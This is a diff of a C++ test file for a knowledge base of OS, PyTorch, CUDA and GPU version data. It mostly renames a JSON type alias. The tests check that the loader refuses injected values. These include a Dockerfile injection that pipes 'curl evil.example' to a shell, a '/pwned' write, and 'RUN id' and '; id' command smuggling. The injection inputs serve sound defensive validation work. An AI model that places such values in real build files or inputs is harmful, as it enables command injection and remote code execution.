@@ -10,7 +10,7 @@
 #include "test_support.hpp"
 
 using td::KnowledgeBase;
-using json = nlohmann::ordered_json;
+using ordered_json = nlohmann::ordered_json;
 
 namespace {
 
@@ -27,9 +27,9 @@ std::map<std::string, std::string> real_files() {
 }
 
 // The error of loading the real data with one file edited by `edit`.
-std::string error_with(const std::string& file, void (*edit)(json&)) {
+std::string error_with(const std::string& file, void (*edit)(ordered_json&)) {
     auto files = real_files();
-    json doc = json::parse(files[file]);
+    ordered_json doc = ordered_json::parse(files[file]);
     edit(doc);
     files[file] = doc.dump(1);
     auto kb = KnowledgeBase::parse(files);
@@ -52,7 +52,7 @@ TEST_CASE("The real knowledge base passes every check", "[knowledge]") {
 }
 
 TEST_CASE("An os.json image with a newline is refused with file, path and value", "[knowledge]") {
-    auto msg = error_with("os.json", [](json& d) {
+    auto msg = error_with("os.json", [](ordered_json& d) {
         d["os"][3]["image"] = "debian:bookworm\nRUN curl evil.example | sh #";
     });
     CHECK(has(msg, "os.json"));
@@ -62,7 +62,7 @@ TEST_CASE("An os.json image with a newline is refused with file, path and value"
 }
 
 TEST_CASE("A torch.json cuDNN with an instruction is refused", "[knowledge]") {
-    auto msg = error_with("torch.json", [](json& d) {
+    auto msg = error_with("torch.json", [](ordered_json& d) {
         for (auto& t : d["torch"])
             if (t["version"] == "2.9.1")
                 t["variants"]["cu128"]["cudnn"] = "9.10.2.21\nRUN echo INJECTED-FROM-KB > /pwned #";
@@ -74,38 +74,48 @@ TEST_CASE("A torch.json cuDNN with an instruction is refused", "[knowledge]") {
 }
 
 TEST_CASE("Other injected values are refused", "[knowledge]") {
-    CHECK(has(error_with("torch.json",
-                         [](json& d) { d["torch"][0]["variants"]["cpu"]["nccl"] = "===2.1"; }),
-              ".nccl"));
-    CHECK(has(error_with("torch.json", [](json& d) { d["torch"][0]["python"]["min"] = "3.8\r"; }),
-              "$.torch[0].python.min"));
-    CHECK(has(error_with("gpus.json", [](json& d) { d["gpus"][0]["model"] = "K80\u2028RUN id"; }),
-              "$.gpus[0].model"));
-    CHECK(
-        has(error_with("gpus.json", [](json& d) { d["gpus"][0]["cc"] = "3.7 "; }), "$.gpus[0].cc"));
     CHECK(has(
-        error_with("images.json",
-                   [](json& d) { d["ngc_pytorch"]["releases"][0]["release"] = "23.01\nRUN id"; }),
-        "$.ngc_pytorch.releases[0].release"));
+        error_with("torch.json",
+                   [](ordered_json& d) { d["torch"][0]["variants"]["cpu"]["nccl"] = "===2.1"; }),
+        ".nccl"));
+    CHECK(has(
+        error_with("torch.json", [](ordered_json& d) { d["torch"][0]["python"]["min"] = "3.8\r"; }),
+        "$.torch[0].python.min"));
+    CHECK(has(
+        error_with("gpus.json", [](ordered_json& d) { d["gpus"][0]["model"] = "K80\u2028RUN id"; }),
+        "$.gpus[0].model"));
+    CHECK(has(error_with("gpus.json", [](ordered_json& d) { d["gpus"][0]["cc"] = "3.7 "; }),
+              "$.gpus[0].cc"));
     CHECK(has(error_with("images.json",
-                         [](json& d) { d["nvidia_cuda"]["releases"][0]["cudnn_tag"] = "Cudnn 8"; }),
+                         [](ordered_json& d) {
+                             d["ngc_pytorch"]["releases"][0]["release"] = "23.01\nRUN id";
+                         }),
+              "$.ngc_pytorch.releases[0].release"));
+    CHECK(has(error_with("images.json",
+                         [](ordered_json& d) {
+                             d["nvidia_cuda"]["releases"][0]["cudnn_tag"] = "Cudnn 8";
+                         }),
               "$.nvidia_cuda.releases[0].cudnn_tag"));
+    CHECK(has(error_with("images.json",
+                         [](ordered_json& d) {
+                             d["nvidia_cuda"]["releases"][0]["os"][0] = "ubuntu:22.04";
+                         }),
+              "$.nvidia_cuda.releases[0].os[0]"));
+    CHECK(has(error_with("images.json",
+                         [](ordered_json& d) {
+                             d["pytorch_pytorch"]["tags"][0]["flavors"][0] = "devel\n";
+                         }),
+              "$.pytorch_pytorch.tags[0].flavors[0]"));
     CHECK(
-        has(error_with("images.json",
-                       [](json& d) { d["nvidia_cuda"]["releases"][0]["os"][0] = "ubuntu:22.04"; }),
-            "$.nvidia_cuda.releases[0].os[0]"));
-    CHECK(
-        has(error_with("images.json",
-                       [](json& d) { d["pytorch_pytorch"]["tags"][0]["flavors"][0] = "devel\n"; }),
-            "$.pytorch_pytorch.tags[0].flavors[0]"));
-    CHECK(has(
-        error_with("os.json", [](json& d) { d["os"][3]["apt_pins"]["python3"] = "3.11.2 ; id"; }),
-        "$.os[3].apt_pins.python3"));
-    CHECK(
-        has(error_with("cuda.json",
-                       [](json& d) { d["cuda"][0]["releases"][0]["min_driver_linux"] = "510.x"; }),
-            "$.cuda[0].releases[0].min_driver_linux"));
-    CHECK(has(error_with("torch.json", [](json& d) { d["torch"][0]["version"] = 5; }),
+        has(error_with("os.json",
+                       [](ordered_json& d) { d["os"][3]["apt_pins"]["python3"] = "3.11.2 ; id"; }),
+            "$.os[3].apt_pins.python3"));
+    CHECK(has(error_with("cuda.json",
+                         [](ordered_json& d) {
+                             d["cuda"][0]["releases"][0]["min_driver_linux"] = "510.x";
+                         }),
+              "$.cuda[0].releases[0].min_driver_linux"));
+    CHECK(has(error_with("torch.json", [](ordered_json& d) { d["torch"][0]["version"] = 5; }),
               "$.torch[0].version: not a string"));
 }
 
@@ -148,8 +158,8 @@ TEST_CASE("torch.json platforms: linux/arm64 builds load, others are refused", "
     REQUIRE(t211->platform("linux/arm64")->default_build());
     CHECK(t211->platform("linux/arm64")->default_build()->cuda == "13.0");
     CHECK(has(error_with("torch.json",
-                         [](json& d) {
-                             d["torch"][0]["platforms"] = {{"linux/mips", json::object()}};
+                         [](ordered_json& d) {
+                             d["torch"][0]["platforms"] = {{"linux/mips", ordered_json::object()}};
                          }),
               "$.torch[0].platforms key"));
 }
